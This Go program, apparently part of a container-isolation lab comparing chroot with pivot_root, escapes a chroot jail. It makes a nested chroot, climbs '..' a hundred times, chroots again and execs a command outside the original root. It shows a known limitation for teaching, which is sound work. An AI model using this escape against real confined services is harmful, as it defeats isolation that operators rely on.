// SPDX-License-Identifier: Apache-2.0

package main

import (
	"errors"
	"fmt"
	"os"
	"os/exec"

	"golang.org/x/sys/unix"
)

// This file is the same in 02-chroot and 04-pivot: a program that breaks out of a chroot. It runs in the root folder, after
// the execve, with nothing but its rights as root.

// depth is how often the escape goes up: more than any path has folders. In the topmost folder ".." stays where it is.
const depth = 100

// escape goes to the highest "/" that can be reached and executes a command there. It returns only if that fails, with the
// exit code.
func escape(args []string) int {
	err := breakOut()
	if err == nil && len(args) == 0 {
		err = errors.New("usage: escape COMMAND [ARGUMENT...]")
	}
	if err == nil {
		var path string
		if path, err = exec.LookPath(args[0]); err == nil {
			err = unix.Exec(path, args, os.Environ())
		}
	}
	fmt.Fprintln(os.Stderr, "escape:", err)
	return 1
}

// breakOut leaves a chroot. The kernel stops ".." at the process's root folder and nowhere else. A second chroot to a folder
// below moves the root there, while the working directory stays where it was: above the root, where no ".." meets it.
func breakOut() error {
	const cell = "cell"
	if err := unix.Mkdir(cell, 0o700); err != nil && err != unix.EEXIST {
		return fmt.Errorf("mkdir %s: %w", cell, err)
	}
	if err := unix.Chroot(cell); err != nil {
		return fmt.Errorf("chroot %s: %w", cell, err)
	}
	for range depth {
		if err := unix.Chdir(".."); err != nil {
			return fmt.Errorf("chdir ..: %w", err)
		}
	}
	return unix.Chroot(".")
}
